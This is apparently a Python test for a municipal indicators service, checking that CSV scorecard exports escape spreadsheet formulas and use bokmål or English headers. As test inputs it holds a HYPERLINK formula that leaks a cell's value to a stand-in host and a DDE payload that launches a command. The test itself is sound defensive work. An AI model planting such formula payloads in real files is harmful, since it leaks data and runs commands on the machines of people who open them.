"""CSV downloads are safe to open in Norwegian Excel: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

from services.indicators.app import create_app
from shared.csvio import FORMULA_TRIGGERS
from shared.settings import Settings
from tests.indicators.approval import approve
from tests.support import auth, running

TITLE = '=HYPERLINK("https://example.invalid/?leak="&A1,"Klikk")'
OWNER = "+47 900 00 000"


async def test_a_scorecard_export_neutralises_formulas_and_uses_semicolons(
    settings: Settings,
) -> None:
    headers = auth(settings, ["manager"], "3301")
    async with running(create_app(settings)) as client:
        created = await client.post(
            "/indicators/goals",
            headers=headers,
            json={
                "key": "kp-formula",
                "plan_level": "kommuneplan",
                "title_nb": TITLE,
                "title_en": "@SUM(1+1)*cmd|' /C calc'!A0",
                "owner_unit": OWNER,
                "from_year": 2024,
                "to_year": 2024,
                "indicator_keys": [],
            },
        )
        assert created.status_code == 201, created.text
        await approve(client, headers)
        export = await client.get(
            "/indicators/scorecard",
            params={"period": "2024", "format": "csv", "headers": "codes"},
            headers=headers,
        )
        people = await client.get(
            "/indicators/scorecard", params={"period": "2024", "format": "csv"}, headers=headers
        )
        english = await client.get(
            "/indicators/scorecard",
            params={"period": "2024", "format": "csv", "lang": "en"},
            headers=headers,
        )
    # Column names in bokmål by default, English on request, the stable codes for scripts.
    assert people.content.decode("utf-8").startswith("\ufeffMålkode;Mål;Plannivå;")
    assert people.headers["content-language"] == "nb"
    assert english.content.decode("utf-8").startswith("\ufeffGoal key;Goal;Plan level;")
    assert english.headers["content-language"] == "en"
    assert people.content.splitlines()[1:] == export.content.splitlines()[1:]
    assert export.status_code == 200, export.text
    assert export.headers["content-type"].startswith("text/csv")
    text = export.content.decode("utf-8")
    assert text.startswith("\ufeffgoal_key;goal;")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    goal = next(r for r in rows if r["goal_key"] == "kp-formula")
    assert goal["goal"] == "'" + TITLE
    assert goal["owner_unit"] == "'" + OWNER
    assert all(
        not cell.lstrip(" ").startswith(FORMULA_TRIGGERS)
        for row in rows
        for cell in row.values()
        if cell
    )
